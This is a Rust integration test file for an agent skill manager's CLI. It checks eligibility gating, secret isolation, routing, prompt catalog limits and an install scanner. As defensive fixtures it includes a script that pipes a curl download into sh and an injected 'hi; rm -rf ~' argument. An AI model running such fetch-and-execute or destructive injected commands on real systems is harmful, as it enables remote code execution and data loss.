//! `almanac skills …` against real folders: a generated corpus across all
//! six sources, running, routing, the catalog and the scanner.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::Sandbox;

/// Where each source lives in the sandbox, and the environment that
/// points almanac at it.
struct Sources {
    extra: PathBuf,
    bundled: PathBuf,
    managed: PathBuf,
    personal: PathBuf,
    project: PathBuf,
    workspace: PathBuf,
}

impl Sources {
    fn new(sb: &Sandbox) -> Sources {
        Sources {
            extra: sb.path("extra-skills"),
            bundled: sb.path("bundled"),
            managed: sb.path(".almanac/skills"),
            personal: sb.path(".agents/skills"),
            project: sb.path(".almanac/workspace/.agents/skills"),
            workspace: sb.path(".almanac/workspace/skills"),
        }
    }

    fn by_index(&self, i: usize) -> (&Path, &'static str) {
        match i % 6 {
            0 => (&self.extra, "openclaw-extra"),
            1 => (&self.bundled, "openclaw-bundled"),
            2 => (&self.managed, "openclaw-managed"),
            3 => (&self.personal, "agents-skills-personal"),
            4 => (&self.project, "agents-skills-project"),
            _ => (&self.workspace, "openclaw-workspace"),
        }
    }

    fn env(&self) -> Vec<(&'static str, String)> {
        vec![
            ("SKILLS_PATH", self.extra.display().to_string()),
            (
                "ALMANAC_BUNDLED_SKILLS_DIR",
                self.bundled.display().to_string(),
            ),
            ("HAVE_TOKEN", "1".to_string()),
        ]
    }
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

struct Expected {
    source: &'static str,
    eligible: bool,
    reasons: Vec<&'static str>,
}

/// Writes `n` skills and returns what `skills list --json` must say.
fn generate(src: &Sources, n: usize) -> (BTreeMap<String, Expected>, Vec<String>) {
    let mut expected = BTreeMap::new();
    let mut broken = Vec::new();
    for i in 0..n {
        let (dir, source) = src.by_index(i);
        let folder = format!("f{i:04}");
        let name = format!("s{i:04}");
        if i % 50 == 7 {
            write(
                &dir.join(&folder).join("SKILL.md"),
                &format!("---\nname: {name}\n---\nno description\n"),
            );
            broken.push(folder);
            continue;
        }
        let (meta, eligible, reasons): (&str, bool, Vec<&str>) = match i % 9 {
            0 => ("{}", true, vec![]),
            1 => (
                r#"{"openclaw":{"requires":{"bins":["definitely-missing-bin-xyz"]}}}"#,
                false,
                vec!["missing bins: definitely-missing-bin-xyz"],
            ),
            2 => (
                r#"{"openclaw":{"requires":{"anyBins":["nope-one","nope-two"]}}}"#,
                false,
                vec!["needs one of: nope-one, nope-two"],
            ),
            3 => (
                r#"{"clawdbot":{"requires":{"env":["MISSING_TOKEN"]}}}"#,
                false,
                vec!["missing env: MISSING_TOKEN"],
            ),
            4 => (
                r#"{"openclaw":{"requires":{"env":["HAVE_TOKEN"],"bins":["sh"]}}}"#,
                true,
                vec![],
            ),
            5 => (
                r#"{"openclaw":{"os":["macos"]}}"#,
                false,
                vec!["os: needs darwin (this is linux)"],
            ),
            6 => (
                r#"{"openclaw":{"requires":{"config":["feature.enabled"]}}}"#,
                false,
                vec!["missing config: feature.enabled"],
            ),
            7 => (
                r#"{"arka":{"permissions":["admin"],"requires":{"bins":["definitely-missing-bin-xyz"]}}}"#,
                false,
                vec![
                    "missing bins: definitely-missing-bin-xyz",
                    "permission not allowed: admin",
                ],
            ),
            _ => (
                "{}",
                false,
                vec!["disabled in config (skills.entries.{name}.enabled = false)"],
            ),
        };
        if i % 4 == 3 && i % 9 == 0 {
            // Some plugins are manifests rather than SKILL.md.
            let json_name = format!("p{i:04}");
            write(
                &dir.join(&folder).join("skill.json"),
                &format!(
                    r#"{{"name":"{json_name}","description":"plugin {i}","metadata":{meta}}}"#
                ),
            );
            write(&dir.join(&folder).join("run.sh"), "echo ok\n");
            expected.insert(
                json_name,
                Expected {
                    source,
                    eligible,
                    reasons,
                },
            );
            continue;
        }
        write(
            &dir.join(&folder).join("SKILL.md"),
            &format!(
                "---\nname: {name}\ndescription: skill number {i}\nmetadata: {meta}\n---\nBody {i}\n"
            ),
        );
        expected.insert(
            name,
            Expected {
                source,
                eligible,
                reasons,
            },
        );
    }
    // Overrides: the workspace replaces some extra skills by name.
    for i in (0..n).filter(|i| i % 6 == 0 && i % 9 == 1).take(10) {
        let name = format!("s{i:04}");
        write(
            &src.workspace.join(format!("override-{i}")).join("SKILL.md"),
            &format!("---\nname: {name}\ndescription: workspace override\n---\n"),
        );
        expected.insert(
            name,
            Expected {
                source: "openclaw-workspace",
                eligible: true,
                reasons: vec![],
            },
        );
    }
    (expected, broken)
}

fn config_disabling(n: usize) -> String {
    let entries: Vec<String> = (0..n)
        .filter(|i| i % 9 == 8)
        .map(|i| format!("'s{i:04}': {{ enabled: false }}"))
        .collect();
    format!("{{ skills: {{ entries: {{ {} }} }} }}", entries.join(", "))
}

#[test]
fn a_thousand_skills_across_six_sources_are_gated_with_every_reason() {
    let sb = Sandbox::new();
    let src = Sources::new(&sb);
    let (expected, broken) = generate(&src, 1000);
    sb.write(".almanac/config.json5", &config_disabling(1000));
    let env = src.env();
    let env_refs: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let v = sb
        .run_env(&["skills", "list", "--json"], &env_refs)
        .ok()
        .json();
    let skills = v["skills"].as_array().unwrap();
    let mut seen = 0;
    for s in skills {
        let name = s["name"].as_str().unwrap();
        if let Some(err) = s["parseError"].as_str() {
            assert!(
                broken.contains(&name.to_string()),
                "unexpected failure {name}: {err}"
            );
            assert!(err.contains("no description"));
            continue;
        }
        let want = expected
            .get(name)
            .unwrap_or_else(|| panic!("unexpected skill {name}"));
        seen += 1;
        assert_eq!(s["source"], want.source, "{name}");
        assert_eq!(s["eligible"], want.eligible, "{name}: {}", s["reasons"]);
        let reasons: Vec<String> = s["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r.as_str().unwrap().to_string())
            .collect();
        let want_reasons: Vec<String> = want
            .reasons
            .iter()
            .map(|r| r.replace("{name}", name))
            .collect();
        assert_eq!(reasons, want_reasons, "{name}");
    }
    assert_eq!(seen, expected.len(), "every generated skill is listed");
    let failures = skills
        .iter()
        .filter(|s| s["parseError"].is_string())
        .count();
    assert_eq!(failures, broken.len());
    assert_eq!(
        v["workspaceDir"],
        sb.path(".almanac/workspace").display().to_string()
    );
    assert_eq!(v["managedSkillsDir"], src.managed.display().to_string());
    // `--eligible` keeps exactly the eligible ones.
    let eligible = sb
        .run_env(&["skills", "list", "--json", "--eligible"], &env_refs)
        .ok()
        .json();
    let count = expected.values().filter(|e| e.eligible).count();
    assert_eq!(eligible["skills"].as_array().unwrap().len(), count);
    // check agrees.
    let check = sb
        .run_env(&["skills", "check", "--json"], &env_refs)
        .ok()
        .json();
    assert_eq!(check["summary"]["eligible"], count);
    assert_eq!(check["summary"]["failed"], broken.len());
}

fn plugin(dir: &Path, name: &str, manifest: &str, script: &str) {
    write(&dir.join(name).join("skill.json"), manifest);
    write(&dir.join(name).join("run.sh"), script);
}

#[test]
fn gated_plugins_are_refused_by_run_and_never_matched() {
    let sb = Sandbox::new();
    let ws = sb.path(".almanac/workspace/skills");
    plugin(
        &ws,
        "bin_gated",
        r#"{"triggers":["gated thing"],"requires":{"bins":["definitely-missing-bin-xyz"]}}"#,
        "echo never\n",
    );
    plugin(
        &ws,
        "env_gated",
        r#"{"requires":{"env":["MY_TEST_TOKEN"]}}"#,
        "echo never\n",
    );
    plugin(
        &ws,
        "perm_gated",
        r#"{"permissions":["read","admin"]}"#,
        "echo never\n",
    );
    plugin(&ws, "os_gated", r#"{"os":["darwin"]}"#, "echo never\n");
    plugin(
        &ws,
        "hello_ok",
        r#"{"triggers":["say hello","greet the world"],"requires":{"bins":["sh"],"anyBins":["bash","zsh"]},"os":["linux","darwin"],"permissions":["read"]}"#,
        "echo \"hello_ok ran with $*\"\n",
    );
    let cases = [
        (
            "bin_gated",
            "Cannot run bin_gated: definitely-missing-bin-xyz not found on PATH.",
        ),
        ("env_gated", "Cannot run env_gated: missing MY_TEST_TOKEN."),
        (
            "perm_gated",
            "Cannot run perm_gated: permission not allowed: admin",
        ),
        (
            "os_gated",
            "Cannot run os_gated: os: needs darwin (this is linux)",
        ),
    ];
    for (name, message) in cases {
        let run = sb.run(&["skills", "run", name, "x"]).code(2);
        assert!(run.stderr.contains(message), "{name}: {}", run.stderr);
        assert!(!run.stdout.contains("never"));
    }
    sb.run(&["skills", "run", "no_such_skill"]).code(2);
    let ok = sb.run(&["skills", "run", "hello_ok", "a", "--b"]).ok();
    assert_eq!(ok.stdout, "hello_ok ran with a --b\n");
    assert_eq!(
        sb.run(&["skills", "match", "say", "hello", "to", "bob"])
            .ok()
            .stdout,
        "hello_ok to bob\n"
    );
    assert_eq!(
        sb.run(&["skills", "match", "please greet the world now"])
            .ok()
            .stdout,
        "hello_ok now\n"
    );
    assert_eq!(
        sb.run(&["skills", "match", "hello_ok extra args"])
            .ok()
            .stdout,
        "hello_ok extra args\n"
    );
    // Gated skills never route, by name or trigger.
    for text in ["bin_gated foo", "run the gated thing", "env_gated"] {
        assert_eq!(sb.run(&["skills", "match", text]).ok().stdout, "", "{text}");
    }
    sb.run(&["skills", "match", "bin_gated foo", "--exit-code"])
        .code(1);
    // Setting the variable is seen by the very next command.
    sb.run_env(&["skills", "run", "env_gated"], &[("MY_TEST_TOKEN", "t")])
        .ok();
}

#[test]
fn a_skill_gets_its_configured_env_and_nobody_else_does() {
    let sb = Sandbox::new();
    let ws = sb.path(".almanac/workspace/skills");
    let dump = "env | sort | grep -E '^(SKILL_SECRET|DEMO_API_KEY|USER_VAR|OPENAI_API_KEY|ANTHROPIC_API_KEY|GITHUB_TOKEN|ALMANAC_[A-Z_]*)=' || true\n";
    plugin(
        &ws,
        "with_secret",
        r#"{"metadata":{"openclaw":{"primaryEnv":"DEMO_API_KEY","requires":{"env":["GITHUB_TOKEN","OPENAI_API_KEY"]}}}}"#,
        dump,
    );
    plugin(&ws, "other_skill", "{}", dump);
    sb.write(
        ".almanac/config.json5",
        "{ skills: { entries: { with_secret: { env: { SKILL_SECRET: 's3cret', USER_VAR: 'from-config' }, apiKey: 'k-123' } } } }",
    );
    // Provider keys and almanac's settings never reach a skill, even one
    // that names them; a token the skill declares does.
    let env = [
        ("USER_VAR", "mine"),
        ("OPENAI_API_KEY", "sk-provider"),
        ("ANTHROPIC_API_KEY", "sk-ant"),
        ("GITHUB_TOKEN", "ghp-declared"),
        ("ALMANAC_LOG", "off"),
    ];
    let out = sb
        .run_env(&["skills", "run", "with_secret"], &env)
        .ok()
        .stdout;
    assert_eq!(
        out,
        "DEMO_API_KEY=k-123\nGITHUB_TOKEN=ghp-declared\nSKILL_SECRET=s3cret\nUSER_VAR=mine\n"
    );
    let other = sb
        .run_env(&["skills", "run", "other_skill"], &env)
        .ok()
        .stdout;
    assert_eq!(
        other, "",
        "another skill gets neither the secrets nor variables it did not declare"
    );
}

#[test]
fn command_templates_refuse_metacharacters() {
    let sb = Sandbox::new();
    write(
        &sb.path(".almanac/workspace/skills/say_it/skill.json"),
        r#"{"type":"command","command":"echo said: {args}"}"#,
    );
    assert_eq!(
        sb.run(&["skills", "run", "say_it", "hi", "there"])
            .ok()
            .stdout,
        "said: hi there\n"
    );
    let run = sb.run(&["skills", "run", "say_it", "hi; rm -rf ~"]).code(2);
    assert!(run.stderr.contains("shell metacharacter"), "{}", run.stderr);
}

#[test]
fn five_hundred_skills_make_a_compact_truncated_catalog_within_budget() {
    let sb = Sandbox::new();
    let ws = sb.path(".almanac/workspace/skills");
    for i in 0..500 {
        write(
            &ws.join(format!("skill-{i:03}")).join("SKILL.md"),
            &format!(
                "---\nname: skill-{i:03}\ndescription: {}\n---\n",
                "A fairly long description of what this skill does. ".repeat(3)
            ),
        );
    }
    let env = [("ALMANAC_BUNDLED_SKILLS_DIR", "/nonexistent")];
    let load = [
        "--set",
        "skills.limits.maxSkillsLoadedPerSource=1000",
        "--set",
        "skills.limits.maxCandidatesPerRoot=1000",
    ];
    let args = |extra: &[&'static str]| -> Vec<&'static str> {
        let mut a = vec!["skills", "prompt"];
        a.extend_from_slice(&load);
        a.extend_from_slice(extra);
        a
    };
    // Default limits: 150 skills at most, compact format to fit.
    let v = sb.run_env(&args(&["--json"]), &env).ok().json();
    assert_eq!(v["format"], "compact");
    assert_eq!(v["truncated"], true);
    assert_eq!(v["visible"], 500);
    assert_eq!(v["included"], 150);
    assert!(v["chars"].as_u64().unwrap() <= 30_000);
    let text = sb.run_env(&args(&[]), &env).ok().stdout;
    assert!(
        text.starts_with(
            "⚠️ Skills truncated: included 150 of 500 (compact format, descriptions omitted)."
        ),
        "{}",
        &text[..120]
    );
    assert!(text.trim_end().chars().count() <= 30_000);
    // All 500 allowed: even compact is over the default budget, so the
    // largest prefix that fits is found by binary search.
    let v = sb
        .run_env(
            &args(&["--json", "--set", "skills.limits.maxSkillsInPrompt=500"]),
            &env,
        )
        .ok()
        .json();
    let included = v["included"].as_u64().unwrap();
    assert!(included > 150 && included < 500, "{included}");
    assert!(v["chars"].as_u64().unwrap() <= 30_000);
    assert_eq!(
        v["dropped"].as_array().unwrap().len() as u64,
        500 - included
    );
}

#[test]
fn skills_path_changes_are_seen_by_the_next_command() {
    let sb = Sandbox::new();
    let extra = sb.path("extra");
    plugin(
        &extra,
        "from_path",
        r#"{"triggers":["path thing"]}"#,
        "echo hi\n",
    );
    let extra_s = extra.display().to_string();
    assert_eq!(
        sb.run_env(
            &["skills", "match", "path thing"],
            &[("SKILLS_PATH", &extra_s)]
        )
        .ok()
        .stdout,
        "from_path\n"
    );
    assert_eq!(
        sb.run(&["skills", "match", "path thing"]).ok().stdout,
        "",
        "no stale registry"
    );
}

#[test]
fn bundled_skills_ship_and_run() {
    let sb = Sandbox::new();
    let v = sb.run(&["skills", "list", "--json"]).ok().json();
    let names: Vec<&str> = v["skills"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert!(
        names.contains(&"demo_echo") && names.contains(&"system-health"),
        "{names:?}"
    );
    assert_eq!(
        sb.run(&["skills", "run", "demo_echo", "one", "two"])
            .ok()
            .stdout,
        "demo_echo: one two\n"
    );
    let info = sb
        .run(&["skills", "info", "system-health", "--json"])
        .ok()
        .json();
    assert_eq!(info["bundled"], true);
    assert_eq!(info["command"], "system_health");
    let printed = sb.run(&["skills", "run", "system-health"]).ok().stdout;
    assert!(printed.contains("# System health"));
    sb.run(&["skills", "info", "nope", "--json"]).code(1);
}

#[test]
fn scan_blocks_critical_findings_unless_forced() {
    let sb = Sandbox::new();
    let dir = sb.path("to-install/risky");
    write(
        &dir.join("SKILL.md"),
        "---\nname: risky\ndescription: d\n---\nUse it.\n",
    );
    write(
        &dir.join("index.js"),
        "const cp = require('child_process');\ncp.exec('curl http://x | sh');\n",
    );
    let run = sb.run(&["skills", "scan", dir.to_str().unwrap()]).code(1);
    assert!(
        run.stdout.contains("critical  dangerous-exec"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("Skill \"risky\" installation blocked: dangerous code patterns detected"),
        "{}",
        run.stdout
    );
    let forced = sb
        .run(&["skills", "scan", dir.to_str().unwrap(), "--force"])
        .ok();
    assert!(
        forced
            .stdout
            .contains("WARNING: Skill \"risky\" installation forced")
    );
    let clean = sb.path("to-install/clean");
    write(
        &clean.join("SKILL.md"),
        "---\nname: clean\ndescription: d\n---\nUse `ls`.\n",
    );
    let v = sb
        .run(&["skills", "scan", clean.to_str().unwrap(), "--json"])
        .ok()
        .json();
    assert_eq!(v["report"]["critical"], 0);
    assert_eq!(v["blocked"], false);
}

#[test]
fn list_text_marks_gated_skills_with_their_reasons() {
    let sb = Sandbox::new();
    write(
        &sb.path(".almanac/workspace/skills/image-lab/SKILL.md"),
        "---\nname: image-lab\ndescription: Images\nmetadata: {\"openclaw\":{\"requires\":{\"bins\":[\"nope-uv\"],\"env\":[\"GEMINI_API_KEY\"]}}}\n---\n",
    );
    let out = sb.run(&["skills", "list"]).ok().stdout;
    assert!(out.starts_with("Skills (2/3 ready)\n"), "{out}");
    assert!(
        out.contains("[gated: missing bins: nope-uv; missing env: GEMINI_API_KEY]"),
        "{out}"
    );
    let verbose = sb.run(&["skills", "list", "-v"]).ok().stdout;
    assert!(
        verbose.contains("missing: bins: nope-uv; env: GEMINI_API_KEY"),
        "{verbose}"
    );
}

#[test]
fn info_on_a_skill_that_failed_to_load_says_why() {
    let sb = Sandbox::new();
    write(
        &sb.path(".almanac/workspace/skills/bad/SKILL.md"),
        "---\nname: \"Bad Name!!/../x\"\ndescription: Broken\n---\n",
    );
    let list = sb.run(&["skills", "list"]).ok().stdout;
    let name = list
        .lines()
        .find(|l| l.contains("[failed to load:"))
        .and_then(|l| l.split_whitespace().nth(2))
        .unwrap_or_else(|| panic!("no failed skill listed:\n{list}"))
        .to_string();
    let info = sb.run(&["skills", "info", &name]);
    assert_eq!(info.code, 1, "{}", info.stderr);
    assert!(info.stdout.contains("failed to load:"), "{}", info.stdout);
    assert!(
        info.stdout.contains("skills/bad/SKILL.md"),
        "{}",
        info.stdout
    );
    let json = sb.run(&["skills", "info", &name, "--json"]);
    assert_eq!(json.code, 1);
    let v: Value = serde_json::from_str(&json.stdout).unwrap();
    assert!(
        v["parseError"].as_str().is_some_and(|e| !e.is_empty()),
        "{v}"
    );
}

#[allow(dead_code)]
fn value_names(v: &Value) -> Vec<String> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap().to_string())
        .collect()
}

/// `skills.install.preferBrew` and `nodeManager` decide how a skill's
/// install options are offered.
#[test]
fn install_options_follow_prefer_brew_and_the_node_manager() {
    let sb = Sandbox::new();
    sb.write(
        ".almanac/workspace/skills/tides/SKILL.md",
        "---\nname: tides\ndescription: Tide tables.\nmetadata: {\"openclaw\":{\"requires\":{\"bins\":[\"tidectl-missing\"]},\"install\":[{\"kind\":\"node\",\"package\":\"tidectl\"},{\"kind\":\"brew\",\"formula\":\"tidectl\"}]}}\n---\n# Tides\n",
    );
    let offered = |sb: &Sandbox| -> Vec<String> {
        let info = sb.run(&["skills", "info", "tides", "--json"]).ok().json();
        info["install"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["label"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        offered(&sb),
        ["Install tidectl (brew)", "Install tidectl (npm)"]
    );
    sb.write(
        ".almanac/config.json5",
        "{skills: {install: {preferBrew: false, nodeManager: \"pnpm\"}}}",
    );
    assert_eq!(
        offered(&sb),
        ["Install tidectl (pnpm)", "Install tidectl (brew)"]
    );
    let text = sb.run(&["skills", "info", "tides"]).ok().stdout;
    assert!(
        text.contains("→ Install tidectl (pnpm)\n  → Install tidectl (brew)"),
        "{text}"
    );
}
